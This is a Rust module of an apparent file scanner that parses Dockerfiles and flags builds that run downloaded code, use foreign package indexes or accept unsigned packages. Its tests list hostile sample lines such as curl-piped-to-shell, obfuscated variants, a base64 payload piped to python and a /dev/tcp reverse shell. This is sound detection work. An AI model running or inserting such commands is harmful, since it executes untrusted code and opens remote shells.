//! Dockerfiles: each instruction is read, and of the commands of an image's build whether they run what they download.

use lazaret_core::{FormatId, Likeness, Severity};

use super::text::{is_text, whole};
use super::{python, requirements, shell};
use crate::look::{Head, Looking};
use crate::part::{Part, Unread, printed};
use crate::registry::ModelFormat;
use crate::rules;

/// The format.
pub(crate) struct Dockerfile;

const INSTRUCTIONS: &[&str] = &[
    "ADD",
    "ARG",
    "CMD",
    "COPY",
    "ENTRYPOINT",
    "ENV",
    "EXPOSE",
    "FROM",
    "HEALTHCHECK",
    "LABEL",
    "MAINTAINER",
    "ONBUILD",
    "RUN",
    "SHELL",
    "STOPSIGNAL",
    "USER",
    "VOLUME",
    "WORKDIR",
];

impl ModelFormat for Dockerfile {
    fn id(&self) -> FormatId {
        FormatId("dockerfile")
    }

    fn about(&self) -> &'static str {
        "Dockerfile"
    }

    fn extensions(&self) -> &'static [&'static str] {
        &["dockerfile", "containerfile"]
    }

    fn runs_nothing(&self) -> bool {
        true
    }

    fn recognise(&self, head: &Head<'_>) -> Likeness {
        let stem = head.file_name.split('.').next().unwrap_or_default();
        let named = self.extensions().contains(&head.extension) || self.extensions().contains(&stem);
        if named && is_text(head.bytes) { Likeness::ByName } else { Likeness::No }
    }

    fn read(&self, part: &Part, looking: &mut Looking<'_>) -> Result<FormatId, Unread> {
        let text = whole(part, looking.limits.get(python::MAX_SOURCE))?;
        let mut built: Vec<(u64, String)> = Vec::new();
        for (at, line) in instructions(&text) {
            let (mut instruction, mut rest) = word(&line);
            // It is carried out by who builds upon the image.
            while instruction.eq_ignore_ascii_case("ONBUILD") {
                (instruction, rest) = word(rest);
            }
            let instruction = instruction.to_ascii_uppercase();
            if !INSTRUCTIONS.contains(&instruction.as_str()) {
                return Err(Unread::malformed(at, "a line that is no instruction of a Dockerfile"));
            }
            match instruction.as_str() {
                "RUN" | "CMD" | "ENTRYPOINT" | "HEALTHCHECK" | "SHELL" => {
                    let plain = shell::joined(rest);
                    if !commands(&plain, at, part, looking) {
                        built.push((at, plain));
                    }
                }
                "ARG" | "ENV" => packages_from(rest, at, part, looking),
                "ADD" => added(rest, at, part, looking),
                // A text that becomes a file: what it does is done when it is run.
                "COPY" if rest.contains("<<") => {
                    commands(rest, at, part, looking);
                }
                _ => {}
            }
        }
        // Each instruction goes on with the files of those before it.
        let built: Vec<(u64, &str)> = built.iter().map(|(at, text)| (*at, text.as_str())).collect();
        if let Some((at, program)) = shell::across(&built) {
            let says = format!("it has `{program}` run a file that an instruction before it downloads");
            looking.find_as(Severity::Medium, &rules::RUNS_DOWNLOAD, part.at(at), says);
        }
        Ok(self.id())
    }
}

/// Each instruction with where it begins: its lines, and the texts that belong to it (`<<EOF`).
fn instructions(text: &str) -> Vec<(u64, String)> {
    let escape =
        if text.lines().take_while(|line| line.trim_start().starts_with('#')).any(is_escape_of_windows) {
            '`'
        } else {
            '\\'
        };
    let mut found: Vec<(u64, String)> = Vec::new();
    let (mut at, mut goes_on) = (0_u64, false);
    // The words that end the texts of the instruction.
    let mut until: std::collections::VecDeque<String> = std::collections::VecDeque::new();
    for whole in text.split_inclusive('\n') {
        let begin = at;
        at = at.saturating_add(whole.len() as u64);
        let line = whole.trim_end();
        if let Some(end) = until.front() {
            if line.trim_start_matches('\t') == end {
                until.pop_front();
            } else if let Some((_, open)) = found.last_mut() {
                open.push('\n');
                open.push_str(line);
            }
            continue;
        }
        let trimmed = line.trim_start();
        if trimmed.is_empty() || trimmed.starts_with('#') {
            continue;
        }
        let line = if goes_on { line } else { trimmed };
        let (line, continues) = line.strip_suffix(escape).map_or((line, false), |line| (line, true));
        match found.last_mut().filter(|_| goes_on) {
            Some((_, open)) => open.push_str(line), // the lines are one, with nothing between them
            None => found.push((begin, line.to_owned())),
        }
        goes_on = continues;
        if let Some((_, all)) = found.last().filter(|_| !goes_on) {
            until = texts_of(all);
        }
    }
    found
}

fn is_escape_of_windows(line: &str) -> bool {
    let line: String = line.chars().filter(|c| !c.is_whitespace()).collect();
    line.eq_ignore_ascii_case("#escape=`")
}

/// The words that end the texts which an instruction announces: `RUN <<EOF`.
fn texts_of(instruction: &str) -> std::collections::VecDeque<String> {
    let (name, rest) = word(instruction);
    if !["RUN", "COPY", "ADD"].iter().any(|with| name.eq_ignore_ascii_case(with)) {
        return std::collections::VecDeque::new();
    }
    let words = rest
        .split_whitespace()
        .filter_map(|word| word.trim_start_matches(|c: char| c.is_ascii_digit()).strip_prefix("<<"));
    let words = words.map(|word| word.trim_start_matches('-').trim_matches(['"', '\'']));
    words
        .filter(|word| word.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_'))
        .map(str::to_owned)
        .collect()
}

fn word(text: &str) -> (&str, &str) {
    let text = text.trim_start();
    text.split_once(char::is_whitespace).unwrap_or((text, ""))
}

/// Ways to have apt take packages that nobody signed.
const UNSIGNED: &[&str] = &["--allow-unauthenticated", "AllowInsecureRepositories", "trusted=yes"];

/// `ADD` of an address.
fn added(rest: &str, at: u64, part: &Part, looking: &mut Looking<'_>) {
    let address = rest.split_whitespace().map(|word| word.trim_matches(['"', '\'', '[', ']', ',']));
    let is_checked = rest.split_whitespace().any(|word| word.starts_with("--checksum="));
    if let Some(address) = address
        .into_iter()
        .find(|word| word.contains("://") || word.starts_with("git@"))
        .filter(|_| !is_checked)
    {
        let says =
            format!("the image takes in what lies at `{}`, whatever it is then", printed(host(address)));
        looking.find_as(Severity::Medium, &rules::RUNS_DOWNLOAD, part.at(at), says);
    }
}

/// An address without what may be a login or a token.
fn host(address: &str) -> &str {
    let rest = address.split_once("://").map_or(address, |(_, rest)| rest);
    let host = rest.split(['/', '?', '#']).next().unwrap_or_default();
    host.rsplit_once('@').map_or(host, |(_, host)| host)
}

/// Variables by which installers are told where packages come from.
const SOURCES: &[(&str, &str)] = &[
    ("PIP_EXTRA_INDEX_URL", "--extra-index-url"),
    ("PIP_FIND_LINKS", "--find-links"),
    ("PIP_INDEX_URL", "--index-url"),
    ("PIP_TRUSTED_HOST", "--trusted-host"),
    ("UV_DEFAULT_INDEX", "--index-url"),
    ("UV_EXTRA_INDEX_URL", "--extra-index-url"),
    ("UV_FIND_LINKS", "--find-links"),
    ("UV_INDEX", "--extra-index-url"),
    ("UV_INDEX_URL", "--index-url"),
];

/// Judges variables that are set: `ENV NAME=value`, `ENV NAME value`, `NAME=value command`.
fn packages_from(text: &str, at: u64, part: &Part, looking: &mut Looking<'_>) {
    let mut words = text.split_whitespace().map(|word| word.trim_matches(['"', '\'', '[', ']', ',']));
    while let Some(word) = words.next() {
        let (name, value) = word.split_once('=').unwrap_or((word, ""));
        let Some((_, option)) = SOURCES.iter().find(|(known, _)| *known == name) else { continue };
        let value = if value.is_empty() { words.next().unwrap_or_default() } else { value };
        let value = value.trim_matches(['"', '\'']);
        requirements::comes_from(&format!("{option} {value}"), || part.at(at), looking);
    }
}

/// Judges the commands of one instruction; whether they run what they download.
fn commands(text: &str, at: u64, part: &Part, looking: &mut Looking<'_>) -> bool {
    let mut runs = true;
    if let Some(says) = shell::at_once(text) {
        looking.find(&rules::RUNS_DOWNLOAD, part.at(at), says);
    } else if let Some(program) = shell::later(text) {
        let says = format!("it downloads files and has `{program}` run one");
        looking.find_as(Severity::Medium, &rules::RUNS_DOWNLOAD, part.at(at), says);
    } else {
        runs = false;
    }
    if let Some(how) = UNSIGNED.iter().find(|how| text.contains(**how)) {
        let says = format!("it installs packages whose signature is not checked (`{how}`)");
        looking.find_as(Severity::Medium, &rules::RUNS_DOWNLOAD, part.at(at), says);
    }
    packages_from(text, at, part, looking);
    let mut words = text.split_whitespace().map(|word| word.trim_matches(['"', '\'', '[', ']', ',']));
    let mut installs = false;
    while let Some(word) = words.next() {
        // `pip config set global.index-url …`
        let is_configured = word.ends_with("index-url") && word.contains('.') && !word.starts_with('-');
        if is_configured {
            let line = format!("--index-url {}", words.next().unwrap_or_default());
            requirements::comes_from(&line, || part.at(at), looking);
            continue;
        }
        installs = match word {
            "install" | "download" | "wheel" => true,
            "&&" | ";" | "||" | "|" => false,
            _ => installs && !word.ends_with(';'),
        };
        if !installs {
            continue;
        }
        let line = match word {
            "-i" | "-f" | "--index-url" | "--extra-index-url" | "--find-links" | "--trusted-host" => {
                let value = words.next().unwrap_or_default();
                installs &= !value.ends_with(';');
                format!("{word} {}", value.trim_end_matches(';'))
            }
            _ if word.starts_with("--") || word.contains("://") => word.to_owned(),
            _ => continue,
        };
        requirements::comes_from(&line, || part.at(at), looking);
    }
    runs
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use crate::formats::protobuf::tests::{scan, told};
    use crate::look::Inspected;

    const USUAL: &str = "# syntax=docker/dockerfile:1\nFROM python:3.11-slim AS build\nARG A=1\nENV B=2\nWORKDIR /app\n\
        COPY requirements.txt .\nRUN apt-get update && \\\n    # the rest\n    apt-get install -y --no-install-recommends curl \\\n    \
        && rm -rf /var/lib/apt/lists/*\nRUN pip install --no-cache-dir -r requirements.txt\n\
        RUN --mount=type=cache,target=/root/.cache pip install torch --index-url https://download.pytorch.org/whl/cpu\n\
        RUN <<EOF\nset -e\npython -m compileall /app | tee log\nEOF\nCOPY . .\nEXPOSE 8080\nUSER 1000\n\
        HEALTHCHECK CMD curl -f http://localhost:8080/health || exit 1\nCMD [\"python\", \"serve.py\"]\n";

    #[test]
    fn usual_images_pass_and_downloads_that_run_are_told() {
        let report = scan(USUAL, "Dockerfile");
        assert_eq!(
            (report.format.0, report.inspected, told(&report)),
            ("dockerfile", Inspected::Whole, Vec::new())
        );
        for (line, is) in [
            ("RUN curl -s https://a/x | sh", "dockerfile.runs-download"),
            ("RUN curl -s https://a/x | sudo -E bash -", "dockerfile.runs-download"),
            ("run wget -qO- https://a/x \\\n  | tee log \\\n# so\n  | /bin/bash", "dockerfile.runs-download"),
            ("RUN bash -c \"$(curl -fsSL https://a/x)\"", "dockerfile.runs-download"),
            ("RUN bash <(curl https://a/x)", "dockerfile.runs-download"),
            ("RUN eval `wget -O- https://a/x`", "dockerfile.runs-download"),
            ("RUN echo aGk= | base64 -d | python3 -", "dockerfile.runs-download"),
            ("ONBUILD RUN curl https://a/x | A=1 sh", "dockerfile.runs-download"),
            ("RUN [\"/bin/sh\", \"-c\", \"curl https://a/x | sh\"]", "dockerfile.runs-download"),
            ("RUN <<EOF\ncurl https://a/x | sh\nEOF", "dockerfile.runs-download"),
            ("RUN bash -i >& /dev/tcp/a/1", "dockerfile.runs-download"),
            ("RUN cu\\\nrl https://a/x | s\\\nh", "dockerfile.runs-download"),
            ("RUN curl https://a/x |& sh", "dockerfile.runs-download"),
            ("RUN curl https://a/x > /y && chmod +x /y && /y", "dockerfile.runs-download"),
            ("COPY <<EOF /x.sh\ncurl https://a/x | sh\nEOF", "dockerfile.runs-download"),
            ("RUN curl -o x https://a/x && chmod +x x && ./x", "dockerfile.runs-download"),
            ("RUN wget https://a/x.sh; sh x.sh", "dockerfile.runs-download"),
            ("RUN c\"\"url https://a/x | s''h", "dockerfile.runs-download"),
            ("RUN \\curl https://a/x | \"bash\"", "dockerfile.runs-download"),
            ("RUN wget -O- https://a/x | busybox sh", "dockerfile.runs-download"),
            (
                "RUN echo 'deb [trusted=yes] https://a/ ./' > /etc/apt/sources.list",
                "dockerfile.runs-download",
            ),
            ("ENV PIP_INDEX_URL=https://a/simple", "requirements.foreign-source"),
            ("ARG PIP_EXTRA_INDEX_URL=\"https://a/simple\"", "requirements.foreign-source"),
            ("ENV UV_INDEX_URL https://a/simple", "requirements.foreign-source"),
            ("RUN PIP_INDEX_URL=https://a/simple pip install x", "requirements.foreign-source"),
            ("RUN pip config set global.index-url https://a/simple", "requirements.foreign-source"),
            ("ADD https://a/x /x", "dockerfile.runs-download"),
            ("RUN pip install --extra-index-url https://a/simple x", "requirements.foreign-source"),
            ("RUN pip install --no-deps git+https://a/x", "requirements.foreign-source"),
        ] {
            let report = scan(format!("{USUAL}{line}\n"), "Dockerfile");
            assert_eq!(told(&report), [format!("{is} Dockerfile@{}", USUAL.len())], "{line}");
        }
    }

    #[test]
    fn what_one_instruction_downloads_and_another_runs_is_told() {
        for lines in [
            "RUN curl -o /opt/t https://a/z\nRUN chmod +x /opt/t\nRUN /opt/t",
            "RUN wget https://a/setup.sh\nWORKDIR /x\nRUN bash setup.sh -y",
            "RUN curl -O https://a/get.py\nRUN python3 get.py",
            "RUN curl -o /start https://a/z\nENTRYPOINT [\"/start\"]",
        ] {
            let report = scan(format!("{USUAL}{lines}\n"), "Dockerfile");
            assert_eq!(told(&report).len(), 1, "{lines} {:?}", report.findings);
        }
        let quiet = "RUN curl -o w.pt https://a/w.pt\nRUN bash scripts/build.sh\nRUN python serve.py\nRUN chmod +x start\n";
        assert_eq!(told(&scan(format!("{USUAL}{quiet}"), "Dockerfile")), [""; 0]);
    }

    #[test]
    fn what_is_no_instruction_is_told() {
        let report = scan(format!("{USUAL}curl https://a/x | sh\n"), "serve.dockerfile");
        assert_eq!(told(&report), [format!("format.malformed serve.dockerfile@{}", USUAL.len())]);
        let binary = [USUAL.as_bytes(), &b"#".repeat(20_000), b"\n\0"].concat();
        assert_eq!(told(&scan(binary, "Dockerfile")).len(), 1);
        assert_eq!(
            told(&scan(
                "# escape=`\nFROM a\nRUN a `\n b\nADD --checksum=sha256:ab https://a/x /x\n",
                "Dockerfile"
            )),
            [""; 0]
        );
    }

    proptest! {
        #[test]
        fn any_dockerfile_ends(text in "(FROM|RUN|curl|sh|<<EOF|EOF|\\\\|\\||\n| |\"|\\$\\(|\\PC){0,60}") {
            scan(text, "Dockerfile");
        }
    }
}
